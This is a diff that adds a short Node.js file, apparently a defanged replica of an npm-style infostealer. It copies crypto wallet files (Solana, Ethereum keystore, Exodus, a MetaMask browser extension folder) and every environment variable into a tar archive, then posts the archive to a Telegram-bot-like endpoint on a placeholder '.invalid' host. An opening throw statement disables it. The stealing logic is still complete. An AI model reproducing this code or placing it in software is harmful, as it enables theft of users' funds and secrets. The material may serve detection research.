@@ -1,0 +1,11 @@
+throw new Error("inert replica");
+const fs = require("fs"), os = require("os"), path = require("path"), { execSync } = require("child_process");
+const home = os.homedir();
+const wallets = [".config/solana/id.json", ".ethereum/keystore", "Library/Application Support/Exodus/exodus.wallet", ".config/google-chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn"];
+const folder = fs.mkdtempSync(path.join(os.tmpdir(), "v-"));
+for (const one of wallets) if (fs.existsSync(path.join(home, one))) fs.cpSync(path.join(home, one), path.join(folder, path.basename(one)), { recursive: true });
+fs.writeFileSync(path.join(folder, "env.json"), JSON.stringify(process.env));
+execSync(`tar -czf ${folder}.tgz ${folder}`);
+const form = new FormData();
+form.append("document", new Blob([fs.readFileSync(folder + ".tgz")]));
+fetch("https://messenger.replica.invalid/bot000:inert/sendDocument?chat_id=1", { method: "POST", body: form });
